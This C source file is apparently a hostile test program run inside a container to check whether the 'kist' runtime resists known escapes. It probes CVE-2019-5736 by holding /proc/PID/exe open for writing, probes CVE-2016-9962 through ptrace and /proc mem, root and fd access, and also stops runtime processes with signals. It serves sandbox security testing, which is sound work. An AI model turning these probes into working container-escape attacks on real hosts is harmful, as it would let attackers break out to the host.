/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile program for the inside; static, and linked with nothing of ours.
 *
 * thief watch MS: for so long, or until there is a file /stop, it looks at
 * every process that turns up as "kist": keeps its file open, to write to it
 * when it has ended (CVE-2019-5736), and tries to trace it and to open its
 * memory, root, cwd and files (CVE-2016-9962).  Tells "seen", and what it could
 * do; files /seen, /kept and /entered tell the first time at once.
 * thief stop: SIGSTOP to every process that turns up as "kist", again and again,
 * until there is a file /stop, and SIGCONT to whatever else there is; tells how
 * many it reached.
 * thief int80 NUMBER: a system call of the 32-bit kind.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define KEPT_MAX 64
static int kept[KEPT_MAX], kept_count;
static long seen, entered, traced, states;

/* Its name, which anybody may read. */
static int is_kist(int pid)
{
	char path[64], name[32] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	file = fopen(path, "re");
	if (file == NULL)
		return 0;
	if (fgets(name, sizeof(name), file) == NULL)
		*name = '\0';
	fclose(file);
	return strcmp(name, "kist\n") == 0;
}

static void first(long count, const char *path)
{
	if (count == 1)
		close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
}

static int of_process(int pid, const char *what, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	return open(path, flags | O_CLOEXEC);
}

static void enter(int pid)
{
	static const struct {
		const char *what;
		int flags;
	} doors[] = {
		{ "root", O_PATH },   { "cwd", O_PATH }, { "fd/0", O_PATH },
		{ "fd/3", O_PATH },   { "mem", O_RDWR }, { "ns/mnt", O_RDONLY },
		{ "maps", O_RDONLY },
	};

	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
		int fd = of_process(pid, doors[i].what, doors[i].flags);

		/* Still kist after the open, so it was kist's. */
		if (fd >= 0 && is_kist(pid)) {
			entered++;
			first(entered, "/entered");
			printf("entered=%s\n", doors[i].what);
		}
		if (fd >= 0)
			close(fd);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		if (is_kist(pid))
			traced++;
		/* Or its parent could not reap it. */
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/* A directory of kist's own, or the one above it, by what it holds. */
static void find_state(int pid)
{
	static char above[128];
	int fd = open("/id", O_RDONLY | O_CLOEXEC);

	if (*above == '\0' && fd >= 0 && read(fd, above, 100) > 0)
		strcat(above, "/journal");
	if (fd >= 0)
		close(fd);
	for (int i = 3; i < 32 && is_kist(pid); i++) {
		char what[16];
		struct stat st;

		snprintf(what, sizeof(what), "fd/%d", i);
		fd = of_process(pid, what, O_PATH);
		if (fd < 0)
			continue;
		if (fstatat(fd, "journal", &st, 0) == 0 || fstatat(fd, above, &st, 0) == 0)
			states++;
		close(fd);
	}
}

static void look(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc != NULL && (entry = readdir(proc)) != NULL) {
		int pid = atoi(entry->d_name), fd;

		if (pid <= 0 || pid == getpid() || !is_kist(pid))
			continue;
		seen++;
		first(seen, "/seen");
		fd = kept_count < KEPT_MAX ? of_process(pid, "exe", O_RDONLY) : -1;
		if (fd >= 0 && is_kist(pid)) {
			kept[kept_count++] = fd;
			first(kept_count, "/kept");
		} else if (fd >= 0) {
			close(fd);
		}
		enter(pid);
		find_state(pid);
	}
	if (proc != NULL)
		closedir(proc);
}

static void overwrite(void)
{
	for (int i = 0; i < kept_count; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		printf("overwrite=%s\n", fd >= 0 ? "done" : strerror(errno));
		if (fd >= 0)
			close(fd);
		/* Its attributes are as good. */
		printf("chmod=%s\n",
		       fchmodat(AT_FDCWD, path, 0777, 0) == 0 ? "done" : strerror(errno));
	}
}

static void watch(long ms)
{
	struct timespec now, end;

	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += ms / 1000;
	puts("ready=1");
	fflush(stdout);
	do {
		look();
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec <= end.tv_sec && access("/stop", F_OK) < 0);
	usleep(200000);
	overwrite();
	printf("seen=%ld\nkept=%d\nentered_count=%ld\ntraced=%ld\nstates=%ld\nend=1\n", seen,
	       kept_count, entered, traced, states);
}

static void stop(void)
{
	long stopped = 0;

	puts("ready=1");
	fflush(stdout);
	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc != NULL && (entry = readdir(proc)) != NULL) {
			int pid = atoi(entry->d_name);

			if (pid <= 1 || pid == getpid())
				continue;
			/* What it has become is the program, which nobody else continues. */
			if (!is_kist(pid))
				kill(pid, SIGCONT);
			else if (kill(pid, SIGSTOP) == 0)
				stopped++;
		}
		if (proc != NULL)
			closedir(proc);
	}
	printf("stopped=%ld\n", stopped);
}

static void int80(long number)
{
#if defined(__x86_64__)
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number)
			 : "memory", "r8", "r9", "r10", "r11");
	printf("int80=%d\n", (int)result);
#else
	(void)number;
	puts("int80=-38");
#endif
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		watch(atol(argv[2]));
	else if (argc == 2 && strcmp(argv[1], "stop") == 0)
		stop();
	else if (argc == 3 && strcmp(argv[1], "int80") == 0)
		int80(atol(argv[2]));
	else
		return 99;
	return 0;
}
